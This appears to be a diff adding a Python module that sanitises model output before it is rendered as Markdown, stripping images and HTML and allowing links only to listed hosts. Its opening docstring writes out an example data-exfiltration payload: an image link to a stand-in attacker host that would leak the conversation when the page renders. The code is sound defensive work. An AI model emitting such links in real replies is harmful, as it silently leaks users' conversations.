@@ -1,0 +1,145 @@
+"""Make model (and user) text safe to render as Markdown in a browser.
+
+A reply rendered as Markdown can carry ``![x](https://attacker/?q=<the conversation>)``: the
+browser fetches the image the moment it is shown, and the conversation leaks without a click.
+Before anything is rendered, :func:`sanitize_markdown` therefore
+
+- turns every image (Markdown, reference-style or an HTML tag) into a short text note;
+- keeps links only to allow-listed hosts (and ``mailto:``); other links keep their words and lose
+  their target; bare URLs to other hosts are shown as code so they are not auto-linked;
+- makes any remaining HTML literal text and escapes ``$`` so prices are not read as LaTeX.
+
+The page code never passes model or user text with ``unsafe_allow_html``.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable, Iterator
+from urllib.parse import urlsplit
+
+DEFAULT_ALLOWED_HOSTS: frozenset[str] = frozenset({"wikipedia.org"})
+"""Hosts (and their subdomains) a link in model output may point to."""
+
+_RESOURCE_TAG = re.compile(
+    r"<\s*/?\s*(?:img|image|picture|source|video|audio|iframe|object|embed|link|svg|meta|script|style|base)\b"
+    r"[^>]*>?",
+    re.IGNORECASE,
+)
+_LINK_TEXT = r"(?:[^\[\]\n]|\[[^\[\]\n]*\])*"
+_DESTINATION = r"\(\s*<?(?P<url>[^)\s>]*)>?(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\)))?\s*\)"
+_INLINE_IMAGE = re.compile(r"!\[(?P<alt>" + _LINK_TEXT + r")\]" + _DESTINATION)
+_INLINE_LINK = re.compile(r"\[(?P<text>" + _LINK_TEXT + r")\]" + _DESTINATION)
+_REFERENCE_DEFINITION = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*<?(?P<url>[^\s>]*)>?.*$", re.MULTILINE)
+_AUTOLINK = re.compile(r"<(?P<url>[a-zA-Z][a-zA-Z0-9+.-]{1,31}:[^\s<>]*)>")
+_CODE = re.compile(r"^(?P<fence>[ \t]*(?:```|~~~)).*?(?:^(?P=fence)[^\n]*$|\Z)|(?P<ticks>`+)[^`].*?(?P=ticks)",
+                   re.MULTILINE | re.DOTALL)
+_HTML_OPEN = re.compile(r"<(?=[a-zA-Z/!?])")
+_BARE_URL = re.compile(r"(?<![\w/`@])(?:[a-zA-Z][a-zA-Z0-9+.-]*://|www\.)[^\s<>`]+[^\s<>`.,;:!?'\")\]]")
+_DOLLAR = re.compile(r"(?<!\\)\$")
+_PLACEHOLDER = re.compile("\x00(\\d+)\x00")
+_RISKY = re.compile(r"[\[\]!<>()`:$\\\x00]|www\.", re.IGNORECASE)
+
+
+def _normalise_hosts(hosts: Iterable[str]) -> frozenset[str]:
+    return frozenset(h.strip().lower().lstrip(".") for h in hosts if h.strip())
+
+
+def is_allowed_url(url: str, allowed_hosts: Iterable[str] = DEFAULT_ALLOWED_HOSTS) -> bool:
+    """Whether a link target is ``mailto:`` or http(s) on an allow-listed host or its subdomain."""
+    candidate = url.strip()
+    if candidate.lower().startswith("www."):
+        candidate = "http://" + candidate
+    try:
+        parts = urlsplit(candidate)
+        host = (parts.hostname or "").lower()
+    except ValueError:
+        return False
+    if parts.scheme.lower() == "mailto":
+        return True
+    if parts.scheme.lower() not in ("http", "https") or not host:
+        return False
+    allowed = _normalise_hosts(allowed_hosts)
+    return any(host == h or host.endswith("." + h) for h in allowed)
+
+
+class _Vault:
+    """Holds pieces of text that later steps must not touch, behind NUL-delimited placeholders."""
+
+    def __init__(self) -> None:
+        self.pieces: list[str] = []
+
+    def keep(self, text: str) -> str:
+        self.pieces.append(text)
+        return f"\x00{len(self.pieces) - 1}\x00"
+
+    def restore(self, text: str) -> str:
+        # Pieces may hold placeholders of earlier pieces (a code span around a kept link), so loop.
+        while _PLACEHOLDER.search(text):
+            text = _PLACEHOLDER.sub(lambda m: self.pieces[int(m.group(1))], text)
+        return text
+
+
+def sanitize_markdown(text: str, allowed_hosts: Iterable[str] = DEFAULT_ALLOWED_HOSTS) -> str:
+    """Markdown that cannot make the browser fetch anything, and links only to allowed hosts."""
+    allowed = _normalise_hosts(allowed_hosts)
+    vault = _Vault()
+
+    def ok(url: str) -> bool:
+        return is_allowed_url(url, allowed)
+
+    text = text.replace("\x00", "")
+    text = _RESOURCE_TAG.sub("(image removed)", text)
+    text = _INLINE_IMAGE.sub(lambda m: _image_note(m["alt"]), text)
+    text = text.replace("![", "!\\[")  # reference-style images become plain text
+    text = _REFERENCE_DEFINITION.sub(lambda m: vault.keep(m[0]) if ok(m["url"]) else "", text)
+    text = _INLINE_LINK.sub(lambda m: vault.keep(m[0]) if ok(m["url"]) else f"{m['text']} (link removed)", text)
+    text = _AUTOLINK.sub(lambda m: vault.keep(m[0]) if ok(m["url"]) else _as_code(m["url"]), text)
+    text = text.replace("](", "]\\(")  # deeper-nested link syntax the patterns above did not match
+    text = _CODE.sub(lambda m: vault.keep(m[0]), text)
+    text = _HTML_OPEN.sub("&lt;", text)
+    text = _BARE_URL.sub(lambda m: m[0] if ok(m[0]) else _as_code(m[0]), text)
+    text = _DOLLAR.sub(r"\\$", text)
+    return vault.restore(text)
+
+
+def _image_note(alt: str) -> str:
+    words = " ".join(alt.replace("[", " ").replace("]", " ").split())
+    return f"(image removed: {words})" if words else "(image removed)"
+
+
+def _as_code(url: str) -> str:
+    return "`" + url.replace("`", "") + "`"
+
+
+
+
+def sanitize_stream(chunks: Iterable[str], allowed_hosts: Iterable[str] = DEFAULT_ALLOWED_HOSTS) -> Iterator[str]:
+    """Sanitise a reply while it streams, so not even a half-rendered reply can fetch anything.
+
+    Plain words are released as soon as they are complete. From the first character of a line that
+    could start an image, link, URL, HTML tag or formula, the rest of the line is held back until
+    the line ends, then sanitised as a whole. Every construct that can fetch or link lives within
+    one line once ``![`` and ``](`` are escaped, so sanitising line by line is enough; the caller
+    re-renders the finished reply with :func:`sanitize_markdown` anyway.
+    """
+    allowed = _normalise_hosts(allowed_hosts)
+    pending = ""
+    for chunk in chunks:
+        pending += chunk
+        while "\n" in pending:
+            line, pending = pending.split("\n", 1)
+            yield sanitize_markdown(line, allowed) + "\n"
+        cut = _safe_prefix_length(pending)
+        if cut:
+            yield pending[:cut]
+            pending = pending[cut:]
+    if pending:
+        yield sanitize_markdown(pending, allowed)
+
+
+def _safe_prefix_length(text: str) -> int:
+    risky = _RISKY.search(text)
+    end = risky.start() if risky else len(text)
+    whitespace = max(text.rfind(" ", 0, end), text.rfind("\t", 0, end))
+    return whitespace + 1
